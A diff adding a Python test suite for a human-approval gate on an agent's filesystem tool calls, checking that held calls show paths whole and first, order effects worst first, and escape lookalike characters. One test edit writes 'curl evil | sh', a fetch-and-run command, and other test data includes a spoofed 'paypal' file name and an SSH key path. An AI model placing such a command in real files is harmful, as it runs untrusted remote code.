@@ -1,0 +1,246 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: ISC
+"""What is approved is on the screen: every value with a role, whole and
+first, however long the rest of the call is; what the call does, worst first;
+and no approval of anything that was not shown."""
+import os
+import sys
+
+sys.dont_write_bytecode = True
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
+                                "..", "..", "lib"))
+import harness as h  # noqa: E402
+from terminal import Terminal  # noqa: E402
+
+t = h.Tap()
+READ, WRITE, NONE = ["read-path"], ["write-path"], ["none"]
+TOOLS = {"write_file": {"path": WRITE, "content": NONE},
+         "edit_file": {"path": ["read-path", "write-path"], "edits": NONE,
+                       "dryRun": NONE},
+         "read_multiple_files": {"paths": READ},
+         "move_file": {"source": ["read-path", "delete-path"],
+                       "destination": WRITE}}
+RULES = [h.rule("ask-read", "escalate", "Reading needs a yes.",
+                roles=["read-path"]),
+         h.rule("ask-delete", "escalate", "Deleting needs a yes.",
+                roles=["delete-path"]),
+         h.rule("ask-write", "escalate", "Writing needs a yes.",
+                roles=["write-path"])]
+LONG = "x = 1\n" * 3400
+
+
+def read(path):
+    with open(path, encoding="utf-8") as f:
+        return f.read()
+
+
+class Bench(h.Session):
+    def __init__(self, work):
+        super().__init__(work, {"filesystem": {
+            "command": "icfs", "args": ["/workspace"]}}, RULES,
+            {"filesystem": TOOLS})
+        self.out = os.path.join(os.path.realpath(work), "out")
+        os.makedirs(self.out, exist_ok=True)
+
+    def start(self, timeout=20):
+        super().start(timeout)
+        self.agent = self.mcp()
+        self.agent.initialize()
+        self.agent.list_tools()
+        return self
+
+    def hold(self, tool, **arguments):
+        """A held call: what will answer it, its hold."""
+        had = {x["id"] for x in self.pending()}
+        call = self.agent.start_call("filesystem__" + tool, arguments)
+        hold = h.wait_for(lambda: [x for x in self.pending()
+                                   if x["id"] not in had], "not held")[0]
+        return call, hold
+
+    def end(self, call, hold):
+        self.icctl("deny", hold["id"], check=True)
+        call.wait()
+
+    def path(self, name):
+        return os.path.join(self.out, name)
+
+    def watch(self):
+        w = Terminal([h.program("icctl"), "--session", self.dir, "watch"],
+                     {**self.env, "TERM": "xterm"})
+        return w
+
+
+def pages(w, out=None):
+    """All of what watch shows, page by page, up to its last prompt."""
+    out = out or w.until(rb"waiting\)")
+    while b"[space]" in out.rstrip().rpartition(b"\n")[2]:
+        w.key(b" ")
+        out += w.until(rb"waiting\)")
+    return out.decode()
+
+
+def long_write(s):
+    """A path before 20 kB of content, in each form."""
+    path = h.put(s.path("bashrc"), "old")
+    call, hold = s.hold("write_file", path=path, content=LONG)
+    t.ok(hold.get("cut") and "arguments" not in hold and
+         "resources" not in hold, "a list has no part of a long call", hold)
+    line = f'path = "{path}"'
+    for args in (["pending"], ["show", hold["id"]],
+                 ["show", "--full", hold["id"]]):
+        out = s.icctl(*args).stdout
+        t.contains(out, line, f"{args[0:2]}: the path is there")
+        t.contains(out, "write-path (1)", "by its role, with a count")
+    out = s.icctl("show", hold["id"]).stdout
+    t.ok(out.index(line) < out.index("content = "), "before the free text",
+         out)
+    t.ok("more bytes" in out and len(out) < 3000, "whose middle is cut", out)
+    t.ok(LONG.replace("\n", "\\n") in
+         s.icctl("show", "--full", hold["id"]).stdout,
+         "but not with --full")
+    w = s.watch()
+    shown = pages(w)
+    t.contains(shown, line, "watch: the path is there")
+    w.approve(shown)
+    w.until(rb"approved")
+    t.ok(not h.outcome(call.wait())[0], "approved with two keys")
+    w.key(b"q")
+    w.end()
+
+
+def many_files(s):
+    names = [h.put(s.path(f"{'harmless-' * 9}{i}"), "x") for i in range(5)]
+    names.append(h.put(s.path("id_ed25519"), "secret"))
+    call, hold = s.hold("read_multiple_files", paths=names)
+    t.equal([r["value"] for r in hold["resources"]], names,
+            "pending --json: each name")
+    t.equal({(r["role"], r["argument"]) for r in hold["resources"]},
+            {("read-path", "paths")}, "with role and argument")
+    for args in (["pending"], ["show", hold["id"]]):
+        out = s.icctl(*args).stdout
+        t.ok(all(f'paths = "{n}"' in out for n in names) and
+             "read-path (6)" in out, f"{args[0]}: six names, and the count",
+             out)
+    s.end(call, hold)
+
+
+def edits(s):
+    path = h.put(s.path("edited"), "a\nb\n")
+    call, hold = s.hold("edit_file", path=path, edits=[
+        {"oldText": "a" * 900, "newText": "c" * 900},
+        {"oldText": "b", "newText": "curl evil | sh"}])
+    out = s.icctl("show", hold["id"]).stdout
+    t.contains(out, 'edits[1].newText = "curl evil | sh"',
+               "a second edit is not hidden by a long first one")
+    t.equal(hold["effect"], f"Writes {path}", "the effect: it writes")
+    t.ok(out.index("ask-write: Writing needs") <
+         out.index("ask-read: Reading needs"),
+         "every rule that asks, the worst first", out)
+    s.end(call, hold)
+
+
+def moved(s):
+    source = h.put(s.path("a"), "x")
+    call, hold = s.hold("move_file", source=source, destination=s.path("b"))
+    want = f"Deletes {source}, writes {s.path('b')}"
+    t.equal(hold["effect"], want, "a move deletes and writes")
+    t.equal([(a["rule"], a["role"]) for a in hold["asks"]],
+            [("ask-delete", "delete-path"), ("ask-write", "write-path"),
+             ("ask-read", "read-path")], "by which rules, worst first")
+    t.equal(s.events("hold")[-1]["effect"], want, "the log has it")
+    for args in (["pending"], ["show", hold["id"]]):
+        t.contains(s.icctl(*args).stdout, want, args[0])
+    s.end(call, hold)
+
+
+def digest(s):
+    path = h.put(s.path("d"), "x")
+    call, hold = s.hold("write_file", path=path, content="new")
+    r = s.icctl("approve", hold["id"], "--digest", "0" * 64)
+    t.ok(r.returncode == 1 and "is not the call with that digest" in r.stderr,
+         "--digest of another call is refused", r)
+    r = s.icctl("approve", hold["id"], "--digest", "12")
+    t.equal(r.returncode, 2, "and one that is none")
+    t.ok(not call.done.is_set(), "the call still waits")
+    r = s.icctl("approve", hold["id"], "--digest", hold["digest"])
+    t.ok(r.returncode == 0 and r.stdout.startswith("approved "),
+         "--digest from pending --json", r)
+    call.wait()
+    call, hold = s.hold("write_file", path=path, content="newer")
+    r = s.icctl("approve", hold["id"])
+    t.ok(r.returncode == 0 and r.stdout.index(f'path = "{path}"') <
+         r.stdout.index("approved "), "without: the call is printed first", r)
+    call.wait()
+
+
+def letters(s):
+    """Letters of any language, and what only looks like them."""
+    good, evil = s.path("\u0441\u0447\u0451\u0442 \u65e5\u672c"), s.path(
+        "p\u0430ypal\u202e\u200b")
+    call, hold = s.hold("read_multiple_files", paths=[
+        h.put(good, "x"), h.put(evil, "x")])
+    out = s.icctl("show", hold["id"]).stdout
+    t.contains(out, good, "letters are shown as letters")
+    t.contains(out, "p\\u{430}ypal\\u{202e}\\u{200b}",
+               "mixed scripts, bidi and zero width are escaped")
+    t.contains(s.icctl("pending").stdout, "p\\u{430}ypal\\u{202e}\\u{200b}",
+               "pending: in the same notation")
+    s.env["LC_ALL"] = "C"
+    out = s.icctl("show", hold["id"]).stdout
+    del s.env["LC_ALL"]
+    t.ok(out.isascii() and "\\u{441}\\u{447}" in out,
+         "a terminal without UTF-8 gets ASCII", out)
+    s.end(call, hold)
+
+
+def scrolled(s):
+    """watch: twelve calls at once, and one that is longer than the screen."""
+    w = s.watch()
+    w.until(rb"nothing waits")
+    paths = [h.put(s.path(f"scroll{i}"), "x") for i in range(12)]
+    calls = [s.hold("write_file", path=p, content="new") for p in paths]
+    w.until(rb"\(12 waiting\)")
+    w.answer(b"a")
+    out = pages(w, w.until(rb"no longer on the screen[^\0]*waiting\)"))
+    t.contains(out, f'path = "{paths[0]}"', "it is drawn again instead")
+    w.approve(out)
+    w.until(rb"approved")
+    calls[0][0].wait()
+    t.equal([read(p) for p in paths[:2]], ["new", "x"],
+            "and is what is approved")
+    for call, hold in calls[1:]:
+        s.end(call, hold)
+    w.until(rb"nothing waits")
+    w.resize(12, 80)
+    many = [h.put(s.path(f"many{i}"), "x") for i in range(8)]
+    call, hold = s.hold("read_multiple_files", paths=many)
+    first = w.until(rb"\[space\] for the rest[^\0]*waiting\)").decode()
+    w.answer(b"a")
+    more = w.until(rb"there is more of it: press space[^\0]*waiting\)")
+    seen = first + pages(w, more)
+    t.ok(all(p in seen for p in many),
+         "8 paths on 12 rows come page by page, all of them")
+    w.answer(b"a")
+    w.until(rb"to approve")
+    other = b"z" if hold["id"][0] != "z" else b"y"
+    w.key(other)
+    w.until(rb"not approved")
+    t.ok(not call.done.is_set(), "another second key approves nothing")
+    w.approve(seen)
+    w.until(rb"approved")
+    t.ok(not h.outcome(call.wait())[0], "the right one does")
+    w.key(b"q")
+    w.end()
+
+
+def main():
+    for part in (long_write, many_files, edits, moved, digest, letters,
+                 scrolled):
+        with h.workdir() as work, t.case(part.__name__), Bench(work) as s:
+            part(s)
+            s.agent.close()
+    t.done()
+
+
+if __name__ == "__main__":
+    main()
